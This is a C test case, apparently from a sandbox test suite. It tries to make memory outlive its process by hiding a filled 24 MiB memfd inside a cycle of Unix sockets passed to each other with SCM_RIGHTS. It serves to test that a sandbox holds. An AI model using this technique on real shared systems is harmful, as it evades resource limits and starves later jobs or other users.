/* Attacks: the next run, by memory that only two sockets hold, each of which is queued in the other.
 * Limits: memory_kib=32768 output_kib=100000
 * Expect: outcome=exited exit_code=0
 */
#define _GNU_SOURCE
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static int queue(int socket, int descriptor)
{
    union {
        char bytes[CMSG_SPACE(sizeof descriptor)];
        struct cmsghdr align;
    } control = {{0}};
    struct iovec part = {"x", 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes,
                             .msg_controllen = sizeof control.bytes};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof descriptor);
    memcpy(CMSG_DATA(header), &descriptor, sizeof descriptor);
    return sendmsg(socket, &message, 0) == 1;
}

int main(void)
{
    static char block[24 << 20];
    int ends[2], file = memfd_create("big", 0);
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0 || ftruncate(file, sizeof block) != 0)
        return 1;
    char *pages = mmap(0, sizeof block, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    memset(pages, 1, sizeof block);
    return queue(ends[0], file) && queue(ends[0], ends[0]) && queue(ends[1], ends[1]) ? 0 : 2;
}
